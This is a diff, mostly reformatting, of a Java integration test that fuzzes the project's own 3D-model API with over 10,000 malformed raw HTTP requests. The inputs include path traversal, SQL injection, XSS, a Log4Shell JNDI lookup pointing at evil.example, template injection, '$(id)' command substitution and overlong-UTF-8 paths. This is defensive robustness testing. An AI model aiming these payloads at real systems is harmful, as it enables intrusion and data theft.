@@ -1,10 +1,12 @@
 package io.genx3d.it;
 
+import static io.genx3d.support.Api.bearer;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
 import io.genx3d.support.Api;
 import io.genx3d.support.RawHttp;
 import io.genx3d.support.Reply;
-import org.junit.jupiter.api.Test;
-
 import java.io.ByteArrayOutputStream;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
@@ -20,10 +22,7 @@ import java.util.concurrent.Future;
 import java.util.concurrent.atomic.AtomicInteger;
 import java.util.regex.Matcher;
 import java.util.regex.Pattern;
-
-import static io.genx3d.support.Api.bearer;
-import static org.junit.jupiter.api.Assertions.assertEquals;
-import static org.junit.jupiter.api.Assertions.assertTrue;
+import org.junit.jupiter.api.Test;
 
 /**
  * 10,000+ generated malformed requests over raw sockets — broken and oversized Authorization headers, odd
@@ -45,17 +44,66 @@ class FuzzIT extends DeployedApiTest {
     private static final Pattern LEAK = Pattern.compile(
             "Exception|\\tat |\\bat [a-z]+\\.[a-z]|java\\.[a-z]+\\.|jakarta\\.[a-z]+\\.|org\\.(glassfish|eclipse|h2|postgresql|jboss)|io\\.genx3d");
     private static final String[] NASTY = {
-            "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "' OR '1'='1", "1; DROP TABLE accounts;--",
-            "\" OR \"\"=\"", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}",
-            "%00", "\u0000", "\u202e\u0041", "😀😀", "ﬀ", "-1", "0", "99999999999999999999999", "1e309", "NaN", "null",
-            "true", "[]", "{}", "%", "%%", "%u0041", "\\", "\"", "'", "`", "|", "&&", "$(id)", " ", "\t", "\r\n",
-            "sk-", "sk-" + "A".repeat(49), "key_", "mdl_", "acct_", "A".repeat(5000)};
+        "../../etc/passwd",
+        "..\\..\\windows\\win.ini",
+        "/etc/passwd",
+        "' OR '1'='1",
+        "1; DROP TABLE accounts;--",
+        "\" OR \"\"=\"",
+        "<script>alert(1)</script>",
+        "${jndi:ldap://evil.example/a}",
+        "#{7*7}",
+        "{{7*7}}",
+        "%00",
+        "\u0000",
+        "\u202e\u0041",
+        "😀😀",
+        "ﬀ",
+        "-1",
+        "0",
+        "99999999999999999999999",
+        "1e309",
+        "NaN",
+        "null",
+        "true",
+        "[]",
+        "{}",
+        "%",
+        "%%",
+        "%u0041",
+        "\\",
+        "\"",
+        "'",
+        "`",
+        "|",
+        "&&",
+        "$(id)",
+        " ",
+        "\t",
+        "\r\n",
+        "sk-",
+        "sk-" + "A".repeat(49),
+        "key_",
+        "mdl_",
+        "acct_",
+        "A".repeat(5000)
+    };
     private static final String[] CONTENT_TYPES = {
-            "application/json", "application/json; charset=UTF-8", "text/plain", "application/xml",
-            "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=latin1",
-            "application/json;;;", "*/*", ""};
+        "application/json",
+        "application/json; charset=UTF-8",
+        "text/plain",
+        "application/xml",
+        "application/x-www-form-urlencoded",
+        "multipart/form-data; boundary=x",
+        "application/json; charset=latin1",
+        "application/json;;;",
+        "*/*",
+        ""
+    };
     private static final String[] METHODS = {"GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD"};
-    private static final String[] ODD_PATH_BYTES = {"%c0%af", "%00", "%zz", "%ff%fe", "%2e%2e/%2e%2e/", "..%c0%af", "%e0%80%af"};
+    private static final String[] ODD_PATH_BYTES = {
+        "%c0%af", "%00", "%zz", "%ff%fe", "%2e%2e/%2e%2e/", "..%c0%af", "%e0%80%af"
+    };
 
     private final Map<String, AtomicInteger> byStatus = new ConcurrentHashMap<>();
     private final Map<String, AtomicInteger> byKind = new ConcurrentHashMap<>();
@@ -78,10 +126,15 @@ class FuzzIT extends DeployedApiTest {
             keys.add(api.createKeyValue(session, "{\"name\":\"fuzz " + i + "\"}"));
         }
         String owner = keys.get(keys.size() - 1);
-        modelId = api.post("/api/v1/models", "{\"name\":\"target\"}", bearer(owner)).json().getString("id");
+        modelId = api.post("/api/v1/models", "{\"name\":\"target\"}", bearer(owner))
+                .json()
+                .getString("id");
         Reply listed = api.get("/api/v1/keys", bearer(owner));
         keyId = listed.json().getJsonArray("data").getJsonObject(0).getString("id");
-        accountId = api.get("/api/v1/sessions", "Cookie", session.cookie()).json().getJsonObject("account").getString("id");
+        accountId = api.get("/api/v1/sessions", "Cookie", session.cookie())
+                .json()
+                .getJsonObject("account")
+                .getString("id");
         raw = new RawHttp("127.0.0.1", base.getPort());
 
         ExecutorService pool = Executors.newFixedThreadPool(THREADS);
@@ -101,16 +154,24 @@ class FuzzIT extends DeployedApiTest {
         pool.shutdown();
 
         int total = byStatus.values().stream().mapToInt(AtomicInteger::get).sum();
-        System.out.printf("FuzzIT: %d requests; by status %s; by kind %s; refused by Payara's HTTP parser before the "
-                + "application (empty answer): %d; failures: %d%n", total, new TreeMap<>(counts(byStatus)),
-                new TreeMap<>(counts(byKind)), container.get(), failures.size());
+        System.out.printf(
+                "FuzzIT: %d requests; by status %s; by kind %s; refused by Payara's HTTP parser before the "
+                        + "application (empty answer): %d; failures: %d%n",
+                total,
+                new TreeMap<>(counts(byStatus)),
+                new TreeMap<>(counts(byKind)),
+                container.get(),
+                failures.size());
         assertTrue(total >= 10_000, "sent " + total);
         assertEquals(List.of(), failures.stream().limit(20).toList(), failures.size() + " failures");
         // Afterwards the same server serves a new customer normally (the fuzzed model may well have been deleted).
         String fresh = api.createKeyValue(session, "{\"name\":\"after the fuzz\"}");
         Reply built = api.post("/api/v1/chat", "{\"message\":\"Create a cube\"}", bearer(fresh));
         assertEquals(200, built.status(), built.body());
-        assertEquals(200, api.get("/api/v1/models/" + built.json().getJsonObject("model").getString("id"), bearer(fresh)).status(),
+        assertEquals(
+                200,
+                api.get("/api/v1/models/" + built.json().getJsonObject("model").getString("id"), bearer(fresh))
+                        .status(),
                 "still serving normally");
         assertEquals(200, api.get("/api/v1/ping").status());
     }
@@ -121,10 +182,12 @@ class FuzzIT extends DeployedApiTest {
         try {
             answer = raw.send(request.bytes());
         } catch (java.io.IOException connectionProblem) {
-            failures.add(request.kind() + ": no answer (" + connectionProblem.getMessage() + ") to " + request.summary());
+            failures.add(
+                    request.kind() + ": no answer (" + connectionProblem.getMessage() + ") to " + request.summary());
             return;
         }
-        byStatus.computeIfAbsent(String.valueOf(answer.status()), s -> new AtomicInteger()).incrementAndGet();
+        byStatus.computeIfAbsent(String.valueOf(answer.status()), s -> new AtomicInteger())
+                .incrementAndGet();
         byKind.computeIfAbsent(request.kind(), s -> new AtomicInteger()).incrementAndGet();
         check(request, answer);
     }
@@ -171,7 +234,10 @@ class FuzzIT extends DeployedApiTest {
     private static boolean isEnvelope(String body) {
         try {
             var error = Reply.parse(body).asJsonObject().getJsonObject("error");
-            return error != null && error.containsKey("code") && error.containsKey("message") && error.containsKey("details");
+            return error != null
+                    && error.containsKey("code")
+                    && error.containsKey("message")
+                    && error.containsKey("details");
         } catch (RuntimeException notJson) {
             return false;
         }
@@ -195,7 +261,11 @@ class FuzzIT extends DeployedApiTest {
         boolean valid = random.nextBoolean();
         // Each request comes from its own client address (through the trusted local proxy), so the guessing
         // limiter slows the broken keys without ever blocking the valid ones.
-        headers.put("X-Forwarded-For", valid ? "10.99.0.1" : "10." + random.nextInt(250) + "." + random.nextInt(250) + "." + (1 + random.nextInt(250)));
+        headers.put(
+                "X-Forwarded-For",
+                valid
+                        ? "10.99.0.1"
+                        : "10." + random.nextInt(250) + "." + random.nextInt(250) + "." + (1 + random.nextInt(250)));
         if (valid) {
             headers.put("Authorization", "Bearer " + keys.get(random.nextInt(keys.size())));
         }
@@ -205,10 +275,14 @@ class FuzzIT extends DeployedApiTest {
         switch (kind) {
             case "method" -> method = METHODS[random.nextInt(METHODS.length)];
             case "auth" -> brokenAuthorization(random, headers);
-            case "path" -> path = path.replaceAll("\\{[a-z]+}", Matcher.quoteReplacement(encode(NASTY[random.nextInt(NASTY.length)])))
-                    + (random.nextInt(4) == 0 ? "/" + encode(NASTY[random.nextInt(NASTY.length)]) : "");
-            case "query" -> path = path + (path.contains("?") ? "&" : "?") + pick(random, "limit", "cursor", "format",
-                    "email", "key_id", "from", "to") + "=" + encode(NASTY[random.nextInt(NASTY.length)]);
+            case "path" ->
+                path = path.replaceAll(
+                                "\\{[a-z]+}", Matcher.quoteReplacement(encode(NASTY[random.nextInt(NASTY.length)])))
+                        + (random.nextInt(4) == 0 ? "/" + encode(NASTY[random.nextInt(NASTY.length)]) : "");
+            case "query" ->
+                path = path + (path.contains("?") ? "&" : "?")
+                        + pick(random, "limit", "cursor", "format", "email", "key_id", "from", "to") + "="
+                        + encode(NASTY[random.nextInt(NASTY.length)]);
             case "body" -> {
                 method = body == null ? "POST" : method;
                 rawBody = brokenBody(random, endpoint[2]);
@@ -230,64 +304,116 @@ class FuzzIT extends DeployedApiTest {
 
     private String[] endpoint(Random random) {
         String[][] all = {
-                {"GET", "/api/v1/models", null}, {"POST", "/api/v1/models", "{\"name\":\"fuzzed\",\"parts\":[{\"primitive\":\"cube\"}]}"},
-                {"GET", "/api/v1/models/{modelId}", null}, {"PATCH", "/api/v1/models/{modelId}", "{\"name\":\"renamed\"}"},
-                {"PUT", "/api/v1/models/{modelId}", "{\"name\":\"replaced\",\"parts\":[]}"}, {"DELETE", "/api/v1/models/{modelId}x", null},
-                {"GET", "/api/v1/models/{modelId}/export?format=glb", null}, {"POST", "/api/v1/chat", "{\"message\":\"Create a cube\"}"},
-                {"GET", "/api/v1/keys", null}, {"POST", "/api/v1/keys", "{\"name\":\"k\",\"level\":\"read_only\"}"},
-                {"GET", "/api/v1/keys/{keyId}", null}, {"DELETE", "/api/v1/keys/{keyId}x", null},
-                {"GET", "/api/v1/usage", null}, {"GET", "/api/v1/users", null}, {"GET", "/api/v1/users/{userId}", null},
-                {"PATCH", "/api/v1/users/{userId}", "{\"status\":\"active\"}"}, {"GET", "/api/v1/users/{userId}/keys", null},
-                {"POST", "/api/v1/accounts", "{\"email\":\"f@example.com\",\"password\":\"correct horse battery\",\"name\":\"F\"}"},
-                {"POST", "/api/v1/sessions", "{\"email\":\"f@example.com\",\"password\":\"wrong password!\"}"},
-                {"GET", "/api/v1/sessions", null}, {"GET", "/api/v1/scopes", null}, {"GET", "/api/v1/ping", null}};
+            {"GET", "/api/v1/models", null},
+            {"POST", "/api/v1/models", "{\"name\":\"fuzzed\",\"parts\":[{\"primitive\":\"cube\"}]}"},
+            {"GET", "/api/v1/models/{modelId}", null},
+            {"PATCH", "/api/v1/models/{modelId}", "{\"name\":\"renamed\"}"},
+            {"PUT", "/api/v1/models/{modelId}", "{\"name\":\"replaced\",\"parts\":[]}"},
+            {"DELETE", "/api/v1/models/{modelId}x", null},
+            {"GET", "/api/v1/models/{modelId}/export?format=glb", null},
+            {"POST", "/api/v1/chat", "{\"message\":\"Create a cube\"}"},
+            {"GET", "/api/v1/keys", null},
+            {"POST", "/api/v1/keys", "{\"name\":\"k\",\"level\":\"read_only\"}"},
+            {"GET", "/api/v1/keys/{keyId}", null},
+            {"DELETE", "/api/v1/keys/{keyId}x", null},
+            {"GET", "/api/v1/usage", null},
+            {"GET", "/api/v1/users", null},
+            {"GET", "/api/v1/users/{userId}", null},
+            {"PATCH", "/api/v1/users/{userId}", "{\"status\":\"active\"}"},
+            {"GET", "/api/v1/users/{userId}/keys", null},
+            {
+                "POST",
+                "/api/v1/accounts",
+                "{\"email\":\"f@example.com\",\"password\":\"correct horse battery\",\"name\":\"F\"}"
+            },
+            {"POST", "/api/v1/sessions", "{\"email\":\"f@example.com\",\"password\":\"wrong password!\"}"},
+            {"GET", "/api/v1/sessions", null},
+            {"GET", "/api/v1/scopes", null},
+            {"GET", "/api/v1/ping", null}
+        };
         return all[random.nextInt(all.length)];
     }
 
     private void brokenAuthorization(Random random, Map<String, String> headers) {
         String key = keys.get(random.nextInt(keys.size()));
-        headers.put("X-Forwarded-For", "10." + random.nextInt(250) + "." + random.nextInt(250) + "." + (1 + random.nextInt(250)));
-        headers.put("Authorization", switch (random.nextInt(12)) {
-            case 0 -> "Bearer";
-            case 1 -> "Bearer ";
-            case 2 -> "Basic dXNlcjpwYXNzd29yZA==";
-            case 3 -> "Bearer " + key + "x";
-            case 4 -> "Bearer " + key.toUpperCase();
-            case 5 -> "Bearer " + key.substring(0, key.length() - 1);
-            case 6 -> "Bearer " + "sk-" + "Z".repeat(300 + random.nextInt(5000));
-            case 7 -> "Bearer\t" + key;
-            case 8 -> "Bearer " + NASTY[random.nextInt(NASTY.length)].replace("\r\n", " ");
-            case 9 -> "bearer  " + "sk-" + randomText(random, 49);
-            case 10 -> "Token " + key;
-            default -> "Bearer " + key + ", Bearer " + key;
-        });
+        headers.put(
+                "X-Forwarded-For",
+                "10." + random.nextInt(250) + "." + random.nextInt(250) + "." + (1 + random.nextInt(250)));
+        headers.put(
+                "Authorization",
+                switch (random.nextInt(12)) {
+                    case 0 -> "Bearer";
+                    case 1 -> "Bearer ";
+                    case 2 -> "Basic dXNlcjpwYXNzd29yZA==";
+                    case 3 -> "Bearer " + key + "x";
+                    case 4 -> "Bearer " + key.toUpperCase();
+                    case 5 -> "Bearer " + key.substring(0, key.length() - 1);
+                    case 6 -> "Bearer " + "sk-" + "Z".repeat(300 + random.nextInt(5000));
+                    case 7 -> "Bearer\t" + key;
+                    case 8 -> "Bearer " + NASTY[random.nextInt(NASTY.length)].replace("\r\n", " ");
+                    case 9 -> "bearer  " + "sk-" + randomText(random, 49);
+                    case 10 -> "Token " + key;
+                    default -> "Bearer " + key + ", Bearer " + key;
+                });
     }
 
     private static byte[] brokenBody(Random random, String valid) {
         String json = valid == null ? "{\"name\":\"x\"}" : valid;
         return switch (random.nextInt(10)) {
             case 0 -> json.substring(0, random.nextInt(json.length())).getBytes(StandardCharsets.UTF_8);
-            case 1 -> ("[".repeat(1000 + random.nextInt(60_000)) + "]".repeat(random.nextInt(10))).getBytes(StandardCharsets.UTF_8);
-            case 2 -> ("{\"name\":\"" + "x".repeat(1_100_000 + random.nextInt(400_000)) + "\"}").getBytes(StandardCharsets.UTF_8);
-            case 3 -> new byte[]{'{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}'};
-            case 4 -> json.replaceFirst(":\\s*\"[^\"]*\"", Matcher.quoteReplacement(":" + pickValue(random))).getBytes(StandardCharsets.UTF_8);
-            case 5 -> json.replaceFirst(":\\s*\"[^\"]*\"", Matcher.quoteReplacement(":\"" + NASTY[random.nextInt(NASTY.length)].replace("\\", "\\\\")
-                    .replace("\"", "\\\"").replace("\u0000", "\\u0000").replace("\r\n", "\\r\\n").replace("\t", "\\t") + "\"")).getBytes(StandardCharsets.UTF_8);
+            case 1 ->
+                ("[".repeat(1000 + random.nextInt(60_000)) + "]".repeat(random.nextInt(10)))
+                        .getBytes(StandardCharsets.UTF_8);
+            case 2 ->
+                ("{\"name\":\"" + "x".repeat(1_100_000 + random.nextInt(400_000)) + "\"}")
+                        .getBytes(StandardCharsets.UTF_8);
+            case 3 ->
+                new byte[] {'{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}'
+                };
+            case 4 ->
+                json.replaceFirst(":\\s*\"[^\"]*\"", Matcher.quoteReplacement(":" + pickValue(random)))
+                        .getBytes(StandardCharsets.UTF_8);
+            case 5 ->
+                json.replaceFirst(
+                                ":\\s*\"[^\"]*\"",
+                                Matcher.quoteReplacement(":\""
+                                        + NASTY[random.nextInt(NASTY.length)]
+                                                .replace("\\", "\\\\")
+                                                .replace("\"", "\\\"")
+                                                .replace("\u0000", "\\u0000")
+                                                .replace("\r\n", "\\r\\n")
+                                                .replace("\t", "\\t")
+                                        + "\""))
+                        .getBytes(StandardCharsets.UTF_8);
             case 6 -> ("\uFEFF" + json).getBytes(StandardCharsets.UTF_8);
-            case 7 -> json.replaceFirst("\\{", "{\"unknown_field\":1,\"name\":\"dup\",").getBytes(StandardCharsets.UTF_8);
+            case 7 ->
+                json.replaceFirst("\\{", "{\"unknown_field\":1,\"name\":\"dup\",")
+                        .getBytes(StandardCharsets.UTF_8);
             case 8 -> ("{\"a\":".repeat(5000) + "1" + "}".repeat(5000)).getBytes(StandardCharsets.UTF_8);
             default -> new byte[0];
         };
     }
 
     private static String pickValue(Random random) {
-        return pick(random, "1", "-1", "1e309", "true", "null", "[]", "{}", "[1,2,3]", "{\"$ne\":null}", "99999999999999999999999999");
+        return pick(
+                random,
+                "1",
+                "-1",
+                "1e309",
+                "true",
+                "null",
+                "[]",
+                "{}",
+                "[1,2,3]",
+                "{\"$ne\":null}",
+                "99999999999999999999999999");
     }
 
     private static byte[] bytes(String method, String path, Map<String, String> headers, byte[] body) {
         ByteArrayOutputStream out = new ByteArrayOutputStream();
         StringBuilder head = new StringBuilder(method).append(' ').append(path).append(" HTTP/1.1\r\n");
-        headers.forEach((name, value) -> head.append(name).append(": ").append(value).append("\r\n"));
+        headers.forEach(
+                (name, value) -> head.append(name).append(": ").append(value).append("\r\n"));
         if (body != null) {
             head.append("Content-Length: ").append(body.length).append("\r\n");
         }
